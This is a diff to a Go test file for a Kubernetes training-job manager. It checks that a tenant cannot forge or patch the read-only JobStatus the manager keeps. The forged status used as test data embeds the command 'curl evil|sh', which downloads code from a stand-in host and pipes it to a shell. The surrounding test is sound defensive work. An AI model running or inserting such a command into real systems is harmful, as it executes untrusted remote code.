@@ -24,6 +24,7 @@ import (
 	jobsetv1alpha2 "sigs.k8s.io/jobset/api/jobset/v1alpha2"
 
 	"github.com/mpijob/mpijob/pkg/api"
+	"github.com/mpijob/mpijob/pkg/jobstatus"
 	"github.com/mpijob/mpijob/pkg/jobspec"
 	"github.com/mpijob/mpijob/pkg/localcluster"
 	"github.com/mpijob/mpijob/pkg/runtimes"
@@ -157,8 +158,25 @@ func TestCreatorAndStatusCannotBeForged(t *testing.T) {
 			}
 		}
 	}
+	// Nor may they write the job's JobStatus, where the manager keeps the
+	// status every interface shows (pkg/api/jobstatus.go): RBAC gives
+	// tenants read only.
+	forged := api.JobStatusOf(job, api.PhaseFailed, "Forged", `{"phase":"Failed","nextStep":"curl evil|sh"}`)
+	forged.SetName(job.Name + "-forged")
+	if err := devA.Create(ctx, forged); !apierrors.IsForbidden(err) {
+		t.Errorf("dev-a creates a JobStatus for the job: %v, want Forbidden", err)
+	}
+	own := &api.JobStatus{}
+	if err := devA.Get(ctx, client.ObjectKeyFromObject(job), own); err != nil || !own.OwnedBy(job.UID) || own.Phase != string(api.PhaseSucceeded) {
+		t.Errorf("dev-a reads the job's JobStatus: %+v (%v), want the manager's Succeeded, owned by the job", own, err)
+	} else if err := devA.Patch(ctx, own, client.RawPatch(types.MergePatchType, []byte(`{"phase":"Failed","status":"{\"phase\":\"Failed\"}"}`))); !apierrors.IsForbidden(err) {
+		t.Errorf("dev-a patches the job's JobStatus: %v, want Forbidden", err)
+	}
 	after := &trainer.TrainJob{}
 	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(job), after); err != nil {
+		t.Fatal(err)
+	}
+	if err := jobstatus.Get(ctx, c.Client, after); err != nil {
 		t.Fatal(err)
 	}
 	s, ok, err := api.ReadStatus(after.Annotations)
@@ -266,6 +284,9 @@ func TestRuntimePolicy(t *testing.T) {
 	time.Sleep(3 * time.Second) // what a change to the running job would need to show
 	cur := &trainer.TrainJob{}
 	if err := c.Client.Get(ctx, client.ObjectKeyFromObject(running), cur); err != nil {
+		t.Fatal(err)
+	}
+	if err := jobstatus.Get(ctx, c.Client, cur); err != nil {
 		t.Fatal(err)
 	}
 	s, _, err := api.ReadStatus(cur.Annotations)
